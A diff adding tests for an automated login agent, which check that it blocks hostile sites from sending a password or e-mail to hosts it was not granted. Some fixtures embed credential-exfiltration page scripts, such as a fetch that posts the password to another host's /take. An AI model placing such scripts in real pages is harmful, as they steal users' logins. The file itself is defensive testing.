@@ -1,0 +1,136 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Pages } from '../../activities/browser/index.js';
+import { TIMEOUTS } from '../../activities/login/index.js';
+import type { Grant } from '../../activities/vault/types.js';
+import type { FillResult } from '../../contract/steps.js';
+import { type Bench, bench, inputOf, testPages } from '../engine/login/harness.js';
+import { copies, SUBMISSIONS } from '../sites/hostile/leaks.js';
+import { type HostileSite, loginForm, type Places, type Site, serveHostile, WELCOME } from '../sites/hostile/serve.js';
+
+/** Short: pages whose submission was stopped never answer. */
+const QUICK = { ...TIMEOUTS, openMs: 5_000, settleMs: 3_000, signMs: 500, undecidedMs: 700 };
+const EMAIL = 'anna.lindqvist@example.com';
+const PASSWORD = 'Tr0ub4dor & "9\'/\\Zebra';
+
+const emailForm = `<h1>Sign in</h1><form method="post" action="/login"><label for="email">E-mail</label>
+  <input id="email" name="email" type="email" autocomplete="username"><button>Next</button></form>`;
+
+let pages: Pages;
+beforeAll(async () => {
+  pages = await testPages();
+});
+afterAll(() => pages.closeAll());
+
+/** More of a run. */
+interface More {
+  readonly other?: (places: Places) => Site;
+  readonly grant?: (site: HostileSite) => Partial<Grant>;
+}
+
+interface Run {
+  readonly end: FillResult;
+  readonly site: HostileSite;
+  readonly b: Bench;
+}
+
+/** Fills the login of a site with all that it asks for, and closes its page. */
+async function logIn(
+  own: (places: Places) => Site,
+  check: (run: Run) => void | Promise<void>,
+  { other, grant }: More = {},
+): Promise<void> {
+  const site = await serveHostile(own, other);
+  const b = bench(pages, site.host, { login: { timeouts: QUICK } });
+  b.vault.grant = { ...b.vault.grant, ...grant?.(site) };
+  try {
+    const { page, outcome } = await b.open();
+    const seen = inputOf(outcome);
+    const values = Object.fromEntries(seen.fields.map(({ name }) => [name, name === 'email' ? EMAIL : PASSWORD]));
+    const end = await b.fill(page, seen, values);
+    await b.activities.closePage({ ...b.ref, page });
+    await check({ end, site, b });
+  } finally {
+    await site.stop();
+    b.clean();
+  }
+}
+
+describe('a password that its site would have sent elsewhere', () => {
+  it.each(SUBMISSIONS)('$name', async ({ own, how }) => {
+    await logIn(own, ({ end, site }) => {
+      expect(site.taken).toEqual([]);
+      expect(end).toMatchObject({ kind: 'failed', code: 'domain_not_allowed' });
+      expect(end).toMatchObject({ details: { host: site.otherHost, how, add: 'send_to' } });
+    });
+  });
+});
+
+describe('what a login may send on', () => {
+  it('an address in redirects and in a form of the provider: OAuth with a login hint, SAML by POST', async () => {
+    const saml = Buffer.from(`<Response><NameID>${EMAIL}</NameID></Response>`).toString('base64');
+    const post = (to: string, fields: string): string =>
+      `<form method="post" action="${to}">${fields}</form><script>document.forms[0].submit()</script>`;
+    await logIn(
+      ({ other }) => ({
+        '/': emailForm,
+        'POST /login': { status: 302, location: `${other}/authorize?login_hint=${encodeURIComponent(EMAIL)}` },
+        'POST /acs': WELCOME,
+      }),
+      ({ end, site }) => {
+        expect(end).toMatchObject({ kind: 'authenticated' });
+        expect(site.received.some((line) => line.startsWith('POST /acs'))).toBe(true);
+      },
+      {
+        other: ({ own }) => ({
+          '/authorize': post('/relay', `<input name="login_hint" value="${EMAIL}">`),
+          'POST /relay': post(`${own}/acs`, `<input name="SAMLResponse" value="${saml}">`),
+        }),
+      },
+    );
+  });
+
+  it('a password to a host of send_to, by its own scripts, where nothing is typed', async () => {
+    const [own, other] = [
+      ({ other: api }: Places): Site => ({
+        '/': `${loginForm()}<script>document.forms[0].onsubmit = async (event) => {
+          event.preventDefault();
+          const answer = await fetch('${api}/take', { method: 'POST', body: JSON.stringify({ password: password.value }) });
+          if (answer.ok) document.body.innerHTML = ${JSON.stringify(WELCOME)};
+        };</script>`,
+      }),
+      (): Site => ({ 'POST /take': 'ok' }),
+    ];
+    await logIn(
+      own,
+      ({ end, site }) => {
+        expect(end).toMatchObject({ kind: 'authenticated' });
+        expect(site.taken).toHaveLength(1);
+      },
+      { other, grant: (site: HostileSite) => ({ send_to: [site.otherHost] }) },
+    );
+  });
+});
+
+it('an address does not leave by the form that it was typed into', async () => {
+  await logIn(
+    ({ other }) => ({
+      '/': `${emailForm}<script>email.oninput = () => { document.forms[0].action = '${other}/take'; };</script>`,
+    }),
+    ({ end, site }) => {
+      expect(site.taken).toEqual([]);
+      expect(end).toMatchObject({ code: 'domain_not_allowed', details: { how: 'form' } });
+    },
+  );
+});
+
+it('copies of a password in every writing and by every way stay in the browser, and the login goes on', async () => {
+  await logIn(
+    (places) => ({ '/': loginForm() + copies(places), 'POST /login': WELCOME }),
+    ({ end, site, b }) => {
+      expect(site.taken).toEqual([]);
+      expect(end).toMatchObject({ kind: 'authenticated' });
+      expect(site.received.filter((line) => line.startsWith('POST /login'))).toHaveLength(1);
+      expect(b.vault.trace.map(({ reason }) => reason)).toContain('copy_stopped');
+    },
+  );
+});
